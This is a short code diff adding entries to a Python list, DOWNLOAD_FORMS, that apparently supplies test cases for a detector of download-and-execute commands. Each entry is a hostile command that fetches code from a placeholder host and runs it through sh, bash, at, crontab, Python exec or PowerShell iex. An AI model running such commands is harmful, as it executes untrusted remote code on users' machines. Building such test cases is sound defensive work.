@@ -295,6 +295,8 @@ DOWNLOAD_FORMS: list[tuple[str, str]] = [
     ("eval_fetch_piped", f"eval curl -s {EVIL} | sh"),
     ("crontab_from_downloaded_file", f"curl -so /tmp/c {EVIL}\ncrontab /tmp/c"),
     ("piped_into_at", f"curl -s {EVIL} | at now"),
+    ("shell_options_before_script", f"curl -so /tmp/x.sh {EVIL}\nbash -euo pipefail /tmp/x.sh"),
+    ("python_here_document", f"python3 <<'EOF'\nimport urllib.request as u\nexec(u.urlopen('{EVIL}').read())\nEOF"),
     ("powershell_iex", f"powershell -Command \"iex ((New-Object Net.WebClient).DownloadString('{EVIL}'))\""),
 ]
 
